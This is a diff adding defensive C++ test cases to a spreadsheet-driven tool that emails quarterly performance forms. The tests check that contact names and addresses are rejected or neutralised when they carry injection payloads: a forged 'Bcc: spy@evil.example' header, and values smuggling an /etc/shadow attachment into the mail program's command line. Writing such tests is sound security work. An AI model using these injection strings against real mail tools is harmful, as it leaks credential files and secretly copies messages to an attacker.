@@ -266,3 +266,91 @@ TEST_CASE("menu: Kirim Formulir lewat Surel with a month sends the monthly progr
   }
   CHECK(july == 4);
 }
+
+TEST_CASE("a contact that would forge a header is named by its cell and skipped, the other bidang get theirs") {
+  TempDir dir;
+  const auto master = make_master(dir.path);
+  const auto forms = make_forms(master, dir.path, 2);
+  // A name that would add a Bcc to the .eml.
+  set_contact(master, "Sekretariat", "Ani\nBcc: spy@evil.example", "ani@satpolpp.contoh.go.id");
+  const auto mail = dir.path / "surel";
+  const CliRun run = run_cli({"forms", "--master", master.string(), "--quarter", "2", "--out", forms.string(), "--eml",
+                              mail.string(), "--force"});
+  CAPTURE(run.out);
+  CAPTURE(run.err);
+  CHECK(contains(run.err, "buku-induk.ods: Pengaturan!B25: Galat: Pesan untuk Sekretariat tidak dibuat: Nama kontak "
+                          "Sekretariat berisi baris baru atau karakter kendali lain (\"Ani↵Bcc: spy@evil.example\")"));
+  CHECK_FALSE(std::filesystem::exists(mail / "Kinerja-2023-TW2-Sekretariat.eml"));
+  int written = 0;
+  for (const auto& entry : std::filesystem::directory_iterator(mail)) {
+    CHECK_FALSE(contains(read_text(entry.path()), "spy@evil.example"));
+    ++written;
+  }
+  CHECK(written == 3);
+
+  // An address that would give senddoc's command line an attachment and a Bcc.
+  set_contact(master, "Sekretariat", "Ani", "x'@y.z?attach=/etc/shadow&bcc=spy@evil.example");
+  const RecordingMailProgram program(dir.path, 0);
+  {
+    Workbook book = Workbook::load(master);
+    const PropertyValue arguments[] = {argument("Quarter", Any(sal_Int32(2))), argument("FormsDirUrl", url_of(forms))};
+    const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
+    CAPTURE(message_of(event));
+    CHECK(event.State == css::frame::DispatchResultState::SUCCESS);
+    CHECK(contains(message_of(event), "Pengaturan!C25"));
+    CHECK(contains(message_of(event), "Pesan untuk Sekretariat tidak dibuat: Surel \"x'@y.z?attach=/etc/shadow&bcc="
+                                      "spy@evil.example\" untuk Sekretariat bukan alamat surel yang dapat dipakai"));
+  }
+  const auto calls = program.calls();
+  CHECK(calls.size() == 3);  // the other bidang's messages opened
+  for (const auto& call : calls) {
+    for (const std::string& word : call) CHECK_FALSE(contains(word, "shadow"));
+    CHECK(after(call, "--subject").find("Sekretariat") == std::string::npos);
+  }
+  // Only the sending waits for the contact: the master's other commands go on.
+  CHECK(run_cli({"rollup", "--master", master.string()}).exit_code == 0);
+}
+
+TEST_CASE("kinerja forms --eml: quotes, a comma and angle brackets stay inside the contact's name") {
+  TempDir dir;
+  const auto master = make_master(dir.path);
+  set_contact(master, "Sekretariat", "Ani \"Bu\" Lestari, <Kabid>", "ani@satpolpp.contoh.go.id");
+  const auto forms = dir.path / "formulir";
+  const auto mail = dir.path / "surel";
+  const CliRun run = run_cli({"forms", "--master", master.string(), "--quarter", "2", "--out", forms.string(), "--eml",
+                              mail.string()});
+  CAPTURE(run.err);
+  REQUIRE(run.exit_code == 0);
+  const auto out = dir.path / "penerima.txt";
+  python(R"py(
+import sys, email
+from email import policy
+with open(sys.argv[1], "rb") as f:
+    message = email.message_from_binary_file(f, policy=policy.default)
+to = message["To"].addresses
+with open(sys.argv[2], "w", encoding="utf-8") as f:
+    f.write("%d|%s|%s|%d|%d" % (len(to), to[0].display_name, to[0].addr_spec, len(message.get_all("To")),
+                                 len(message.get_all("Bcc") or [])))
+)py",
+         {(mail / "Kinerja-2023-TW2-Sekretariat.eml").string(), out.string()});
+  CHECK(read_text(out) == "1|Ani \"Bu\" Lestari, <Kabid>|ani@satpolpp.contoh.go.id|1|0");
+}
+
+TEST_CASE("menu: the mail program is handed the bare address, and a name's apostrophes cannot end senddoc's quotes") {
+  TempDir dir;
+  const auto master = make_master(dir.path);
+  const auto forms = make_forms(master, dir.path, 2);
+  set_contact(master, "Sekretariat", "Ani',attachment='file:///etc/shadow", "ani@satpolpp.contoh.go.id");
+  const RecordingMailProgram program(dir.path, 0);
+  Workbook book = Workbook::load(master);
+  const PropertyValue arguments[] = {argument("Quarter", Any(sal_Int32(2))), argument("FormsDirUrl", url_of(forms))};
+  const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
+  CAPTURE(message_of(event));
+  CHECK(event.State == css::frame::DispatchResultState::SUCCESS);
+  const auto calls = program.calls();
+  REQUIRE(calls.size() == 4);
+  CHECK(calls[0].back() == "ani@satpolpp.contoh.go.id");
+  CHECK(after(calls[0], "--body").starts_with("Yth. Ani’,attachment=’file:///etc/shadow,\n"));
+  for (const std::string& word : calls[0]) CHECK_FALSE(contains(word, "'"));
+  CHECK(after(calls[0], "--attach") == "file://" + (forms / "Kinerja-2023-TW2-Sekretariat.xlsx").string());
+}
